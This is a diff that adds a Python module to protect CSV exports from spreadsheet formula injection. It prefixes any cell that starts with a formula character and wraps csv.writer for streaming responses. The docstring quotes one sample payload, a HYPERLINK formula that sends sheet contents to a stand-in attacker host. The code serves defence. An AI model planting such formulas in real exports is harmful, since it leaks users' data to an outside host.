@@ -1,0 +1,42 @@
+"""CSV that spreadsheets open as data: every export writes its cells through `safe_cell`.
+
+A cell starting with = + - @ (or a tab or carriage return before one) is run as a formula by
+Excel, LibreOffice and Google Sheets: a donor named `=HYPERLINK("https://evil.example?"&A1)`
+would send the sheet's contents away (CSV injection). Such cells are prefixed with an
+apostrophe, which spreadsheets show as text and do not display.
+"""
+
+from __future__ import annotations
+
+import csv
+from collections.abc import Iterable, Iterator
+from typing import Any
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def safe_cell(value: object) -> str:
+    text = "" if value is None else str(value)
+    return "'" + text if text.startswith(FORMULA_STARTS) else text
+
+
+class SafeWriter:
+    """csv.writer whose rows are written through safe_cell."""
+
+    def __init__(self, stream: Any, **options: Any) -> None:
+        self.writer = csv.writer(stream, **options)
+
+    def writerow(self, row: Iterable[object]) -> Any:
+        return self.writer.writerow([safe_cell(value) for value in row])
+
+
+class _Echo:
+    def write(self, value: str) -> str:
+        return value
+
+
+def stream_rows(rows: Iterable[Iterable[object]]) -> Iterator[str]:
+    """Each row as one CSV line, for a StreamingHttpResponse."""
+    writer = SafeWriter(_Echo())
+    for row in rows:
+        yield writer.writerow(row)
